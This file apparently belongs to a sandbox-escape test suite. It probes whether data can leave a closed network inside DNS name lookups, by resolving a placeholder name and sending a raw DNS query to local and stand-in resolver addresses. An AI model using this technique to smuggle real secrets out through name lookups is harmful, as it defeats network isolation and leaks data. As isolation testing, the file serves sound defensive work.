"""A secret in a question for a name.

Where connections are closed, names are often still looked up, and a name can hold any text: the server that is asked for
`the-answer.example.org` has read it. The attack asks through the system's library, and sends a question of its own to the
addresses where name servers listen.
"""
# seen: no name server
# layer: network

# %% attack
import socket

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0athe-answer\x07example\x03org\x00\x00\x01\x00\x01"


def mischief():
    for name in ("the-answer.example.org", "localhost", socket.gethostname() + ".local"):
        try:
            found = socket.getaddrinfo(name, 80)
            print("a name without asking anybody:", name, found[0][4])
        except OSError as problem:
            print("no name server for", name, "-", problem)
    for server in ("127.0.0.53", "127.0.0.1", "192.0.2.53"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as post:
            try:
                post.settimeout(0.2)
                post.sendto(QUESTION, (server, 53))
                escaped(f"a question for a name left for {server}")
            except OSError as problem:
                print("no name server at", server, "-", problem)
